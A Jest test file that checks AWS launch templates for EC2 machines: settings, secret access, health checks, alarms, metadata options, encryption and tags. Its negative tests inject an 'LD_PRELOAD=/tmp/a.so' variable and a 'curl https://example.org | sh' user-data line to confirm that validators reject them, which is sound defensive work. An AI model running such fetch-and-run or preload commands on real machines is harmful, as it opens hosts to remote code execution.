/** Machines: what they are told, what they may read, how they start, and what has them replaced. */

import { describe, expect, test } from '@jest/globals';
import { readBoxConfig } from '../../app/box/config.ts';
import { readRingNodeConfig } from '../../app/cassandra-node/config.ts';
import { readDbwriterConfig } from '../../app/dbwriter/config.ts';
import { readKeysignerConfig } from '../../app/keysigner/config.ts';
import { readLogRouterConfig } from '../../app/log-router/config.ts';
import { readAttachConfig } from '../../app/machine/config.ts';
import { readMailSinkConfig } from '../../app/mail/sink/config.ts';
import { items, members, type Properties, resourcesOf, stacksOf } from '../../app/operator/assembly.ts';
import { readUserData } from '../../app/operator/user-data.ts';
import type { Environment } from '../../app/platform/config.ts';
import { readWebheadConfig } from '../../app/webhead/config.ts';
import { roleOf } from '../../tools/topology/calls.ts';
import type { Machines } from '../../tools/topology/machines.ts';
import type { Topology } from '../../tools/topology/model.ts';
import { keyOf } from '../../tools/topology/values.ts';
import { sharedStacks, sharedTopology } from './support/assembly.ts';
import { type Draft, resourceIn, withChangedStack } from './support/changed.ts';

const ENVIRONMENTS = ['dev', 'loadtest', 'prod'];
const prodStacks = stacksOf(sharedStacks(), 'prod');
const SERVICES = 'prod-us-east-1-services';

/** Each file's reader, and the prefix of what it reads. A generator has no settings; Caddy is not ours, and reads one. */
const READERS: Readonly<
  Record<string, { readonly prefix: string; readonly read: (settings: Environment) => unknown }>
> = {
  attach: { prefix: 'ATTACH_', read: readAttachConfig },
  box: { prefix: 'BOX_', read: readBoxConfig },
  caddy: { prefix: 'CADDY_', read: ({ CADDY_SITE: site }) => expect(site).toMatch(/^[a-z0-9.-]+$/) },
  dbwriter: { prefix: 'DBWRITER_', read: readDbwriterConfig },
  keysigner: { prefix: 'KEYSIGNER_', read: readKeysignerConfig },
  'log-router': { prefix: 'LOG_ROUTER_', read: readLogRouterConfig },
  'mail-sink': { prefix: 'MAIL_SINK_', read: readMailSinkConfig },
  'ring-node': { prefix: 'RING_NODE_', read: readRingNodeConfig },
  webhead: { prefix: 'WEBHEAD_', read: readWebheadConfig },
};

/** What AWS's own library reads beside our settings. */
const BESIDE = ['AWS_REGION'];

/** Faults of settings files, by machines: unknown files and variables, and whatever a role refuses. */
const settingFaults = ({ machines }: Topology) =>
  machines.flatMap(({ key, userData: { files } }) =>
    Object.entries(files).flatMap(([file, settings]) => {
      const reader = READERS[file];
      if (reader === undefined) return [`${key}: nobody reads ${file}`];
      const strangers = Object.keys(settings).filter(
        (name) => !name.startsWith(reader.prefix) && !BESIDE.includes(name),
      );
      return [...strangers.map((name) => `${key}: nobody reads ${name}`), ...refusal(() => reader.read(settings), key)];
    }),
  );

const refusal = (read: () => unknown, key: string) => {
  try {
    read();
    return [];
  } catch (error) {
    return [`${key}: ${(error as Error).message}`];
  }
};

/** Names of secrets in the settings of machines. */
const secretsTold = ({ userData: { files } }: Machines) =>
  Object.values(files)
    .flatMap((settings) => Object.values(settings))
    .flatMap((value) => /^secretsmanager:(.+)$/.exec(value)?.[1] ?? []);

const secretsReadable = (topology: Topology, machines: Machines) =>
  roleOf(topology, machines)
    .statements.filter(({ actions }) => actions.includes('secretsmanager:GetSecretValue'))
    .flatMap(({ resources }) => resources)
    .map((arn) => arn.replace(/^.*:secret:(.*)-\?{6}$/, '$1'));

const regionsOfSecret = ({ stacks }: Topology, name: string) =>
  resourcesOf(stacks, 'AWS::SecretsManager::Secret')
    .filter(({ resource }) => resource.Properties?.['Name'] === name)
    .flatMap(({ stack, resource }) => [
      stack.region,
      ...items(resource.Properties?.['ReplicaRegions']).map((one) => String(members(one)['Region'])),
    ]);

/** Groups that would replace machines when something other than the machine itself is unwell. */
const replacedFor = ({ machines, targetGroups }: Topology) =>
  machines
    .filter(({ healthCheckType }) => healthCheckType !== 'EC2')
    .flatMap((machine) =>
      targetGroups
        .filter((group) => machine.targetGroups.some((target) => keyOf(target) === group.key))
        .filter(({ healthPath }) => healthPath !== undefined && healthPath !== '/__lbheartbeat__')
        .map(({ healthPath }) => `${machine.role}: ${healthPath}`),
    );

const alarmActions = ({ stacks, values }: Topology) =>
  resourcesOf(stacks, 'AWS::CloudWatch::Alarm', 'AWS::CloudWatch::CompositeAlarm').flatMap(({ stack, resource }) =>
    ['AlarmActions', 'OKActions', 'InsufficientDataActions'].flatMap((name) =>
      items(resource.Properties?.[name]).map(
        (action) => values.target(action, stack)?.resource.Type ?? values.text(action, stack),
      ),
    ),
  );

const disksOf = ({ launchData }: Machines) =>
  items(launchData['BlockDeviceMappings']).map((mapping) => members(members(mapping)['Ebs']));

/** Machines and disks that bear no tag of their environment: `doctor` would count them as somebody else's. */
const strangersTo = (environment: string, { machines }: Topology) =>
  machines.flatMap(({ key, launchData }) =>
    ['instance', 'volume'].flatMap((type) => {
      const specification = items(launchData['TagSpecifications'])
        .map(members)
        .find((one) => one['ResourceType'] === type);
      const tags = items(specification?.['Tags']).map(members);
      const borne = tags.some(({ Key: tag, Value: value }) => tag === 'picl-idp:environment' && value === environment);
      return borne ? [] : [`${key}: ${type}`];
    }),
  );

const metadataOf = ({ launchData }: Machines): Properties => members(launchData['MetadataOptions']);

describe.each(ENVIRONMENTS)('in %s', (environment) => {
  const topology = sharedTopology(environment);
  const { machines, stacks } = topology;

  test('every machine’s settings are what its role reads, none unknown and none missing', () =>
    expect(settingFaults(topology)).toEqual([]));

  test('every machine is told the file of its role, and its region with it', () => {
    const roles = machines.filter(({ role }) => role !== 'generator');
    expect(roles.length).toBeGreaterThan(0);
    expect(roles.filter(({ role, userData, stack }) => userData.files[role]?.['AWS_REGION'] !== stack.region)).toEqual(
      [],
    );
  });

  test('the secrets that a machine is told are those that its role may read, no more and no fewer', () => {
    for (const machine of machines) {
      expect(secretsTold(machine).sort()).toEqual([...new Set(secretsReadable(topology, machine))].sort());
    }
  });

  test('each secret that a machine is told is declared, and lies in its region', () => {
    const missing = machines.flatMap((machine) =>
      secretsTold(machine).filter((name) => !regionsOfSecret(topology, name).includes(machine.stack.region)),
    );
    expect(missing).toEqual([]);
  });

  test('with the store gone no machine is replaced: groups ask for nothing that a neighbour’s outage changes', () =>
    expect(replacedFor(topology)).toEqual([]));

  test('no alarm does anything but tell people', () =>
    // In dev nothing rings.
    expect([...new Set(alarmActions(topology))]).toEqual(environment === 'dev' ? [] : ['AWS::SNS::Topic']));

  test('machines are added for load only', () => {
    const policies = resourcesOf(stacks, 'AWS::AutoScaling::ScalingPolicy').map(({ resource }) =>
      JSON.stringify(resource.Properties?.['TargetTrackingConfiguration']),
    );
    expect(policies).toHaveLength(environment === 'dev' ? 0 : 2);
    expect(policies.filter((policy) => !policy?.includes('ASGAverageCPUUtilization'))).toEqual([]);
    expect(resourcesOf(stacks, 'AWS::AutoScaling::LifecycleHook', 'AWS::AutoScaling::ScheduledAction')).toEqual([]);
  });

  test('metadata is answered to signed requests of the machine itself only', () => {
    const expected = { HttpEndpoint: 'enabled', HttpTokens: 'required', HttpPutResponseHopLimit: 1 };
    for (const machine of machines) expect(metadataOf(machine)).toEqual(expected);
  });

  test('every disk and every volume is encrypted', () => {
    const disks = machines.flatMap(disksOf);
    const volumes = resourcesOf(stacks, 'AWS::EC2::Volume').map(({ resource }) => resource.Properties ?? {});
    expect(disks.length).toBeGreaterThanOrEqual(machines.length);
    expect([...disks, ...volumes].filter(({ Encrypted: encrypted }) => encrypted !== true)).toEqual([]);
  });

  test('every machine and its disk bear the tag of their environment', () =>
    expect(strangersTo(environment, topology)).toEqual([]));

  test('no machine has a key pair', () => {
    expect(machines.length).toBeGreaterThan(0);
    expect(machines.filter(({ launchData }) => 'KeyName' in launchData).map(({ key }) => key)).toEqual([]);
  });

  test('groups say how many machines there are at least and at most, and never how many there shall be', () => {
    for (const { resource, machinesMin, machinesMax } of machines) {
      expect(resource.Properties).not.toHaveProperty('DesiredCapacity');
      expect(machinesMin).toBeLessThanOrEqual(machinesMax);
    }
  });

  test('a deploy rolls every group but those of ring nodes and generators, which operators raise', () => {
    const left = machines.filter(({ resource }) => resource.UpdatePolicy === undefined).map(({ role }) => role);
    const raised: Readonly<Record<string, readonly string[]>> = {
      dev: [],
      loadtest: ['generator', 'ring-node'],
      prod: ['ring-node'],
    };
    expect([...new Set(left)].sort()).toEqual(raised[environment]);
    const rolled = machines.filter(({ role, resource }) => role === 'ring-node' && resource.UpdatePolicy !== undefined);
    expect(rolled.map(({ key }) => key)).toEqual([]);
  });

  test('a ring group is one node in one zone, and starts empty', () => {
    const ring = machines.filter(({ role }) => role === 'ring-node');
    for (const { machinesMin, machinesMax, subnets } of ring) {
      expect({ machinesMin, machinesMax, zones: subnets.length }).toEqual({ machinesMin: 0, machinesMax: 1, zones: 1 });
    }
  });
});

describe('the questions can be answered with no', () => {
  const edited = (edit: (template: Draft) => void) => withChangedStack(prodStacks, SERVICES, edit);
  const retold = (from: string, to: string) =>
    edited((template) => {
      const { LaunchTemplateData: data } = resourceIn(
        template,
        'AWS::EC2::LaunchTemplate',
        'prod keysigner',
      ).Properties;
      const { UserData: userData } = data as { UserData: { 'Fn::Base64': string } };
      userData['Fn::Base64'] = userData['Fn::Base64'].replace(from, to);
    });

  test('a setting that is missing is named', () =>
    expect(settingFaults(retold('KEYSIGNER_BACKEND=memory\n', '')).join()).toContain('KEYSIGNER_BACKEND: is missing'));

  test('a misspelt setting is named', () =>
    expect(settingFaults(retold('KEYSIGNER_BACKEND', 'KEYSIGNER_BAKCEND')).join()).toContain(
      'KEYSIGNER_BAKCEND: is no setting, did you mean KEYSIGNER_BACKEND?',
    ));

  test('a variable that nobody reads is named', () =>
    expect(settingFaults(retold('KEYSIGNER_BACKEND', 'LD_PRELOAD=/tmp/a.so\nKEYSIGNER_BACKEND')).join()).toContain(
      'nobody reads LD_PRELOAD',
    ));

  test('a secret that the role may not read is told apart', () => {
    const other = retold('prod/idp-key-set', 'prod/sealing-keyring');
    const keysigner = other.machines.find(({ key }) => key.startsWith('prod-us-east-1-services/Keysigner'));
    if (keysigner === undefined) throw new RangeError('prod has no keysigner');
    expect(secretsReadable(other, keysigner)).not.toEqual(expect.arrayContaining(secretsTold(keysigner)));
  });

  test('a probe of the store in the way of replacement is seen', () => {
    const deep = edited((template) => {
      resourceIn(template, 'AWS::ElasticLoadBalancingV2::TargetGroup', 'WebheadBalancerTargets').Properties[
        'HealthCheckPath'
      ] = '/__heartbeat__';
    });
    expect(replacedFor(deep)).toEqual(['webhead: /__heartbeat__']);
  });

  test('a machine without the tag of its environment is seen', () => {
    const untagged = edited((template) => {
      const { LaunchTemplateData: data } = resourceIn(template, 'AWS::EC2::LaunchTemplate', 'prod webhead').Properties;
      const { TagSpecifications: specifications } = data as { TagSpecifications: { Tags: unknown[] }[] };
      for (const specification of specifications) specification.Tags.splice(1, 1);
    });
    const [webhead] = untagged.machines.filter(({ key, role }) => key.startsWith(`${SERVICES}/`) && role === 'webhead');
    expect(strangersTo('prod', untagged)).toEqual([`${webhead?.key}: instance`, `${webhead?.key}: volume`]);
  });

  test('an alarm that ends machines is seen', () => {
    const ending = edited((template) => {
      resourceIn(template, 'AWS::CloudWatch::Alarm', 'WebheadRollBackFailing').Properties['AlarmActions'] = [
        'arn:aws:automate:us-east-1:ec2:terminate',
      ];
    });
    expect(alarmActions(ending)).toContain('arn:aws:automate:us-east-1:ec2:terminate');
  });

  test('user data that does anything else is refused', () => {
    expect(() => readUserData('#!/bin/sh\ncurl https://example.org | sh\n')).toThrow(
      'user data: got "curl https://example.org | sh", allowed: settings files and one role',
    );
    expect(() => readUserData('#!/bin/sh\nset -eu\n')).toThrow('enables no role');
  });
});
